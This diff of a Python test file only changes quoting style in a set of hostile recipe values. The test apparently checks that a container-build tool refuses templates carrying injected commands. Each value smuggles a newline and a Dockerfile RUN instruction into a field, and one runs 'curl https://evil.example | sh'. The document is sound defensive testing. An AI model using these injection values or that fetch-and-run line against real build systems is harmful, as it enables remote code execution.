@@ -46,12 +46,12 @@ def test_hostile_template_is_refused_without_running_or_reading_anything(tmp_pat
 
 
 RECIPE_VALUES = {
-    "user-newline": "user: \"root\\nRUN curl https://evil.example | sh\"\n",
-    "env-key-newline": "env: {\"A\\nRUN id\": \"1\"}\n",
-    "env-value-newline": "env: {A: \"1\\nRUN id\"}\n",
-    "workdir-newline": "workdir: \"/w\\nRUN id\"\n",
-    "label-newline": "labels: {x: \"y\\nRUN id\"}\n",
-    "cmd-newline": "cmd: [\"python\", \"-c\\nRUN id\"]\n",
+    "user-newline": 'user: "root\\nRUN curl https://evil.example | sh"\n',
+    "env-key-newline": 'env: {"A\\nRUN id": "1"}\n',
+    "env-value-newline": 'env: {A: "1\\nRUN id"}\n',
+    "workdir-newline": 'workdir: "/w\\nRUN id"\n',
+    "label-newline": 'labels: {x: "y\\nRUN id"}\n',
+    "cmd-newline": 'cmd: ["python", "-c\\nRUN id"]\n',
 }
 
 
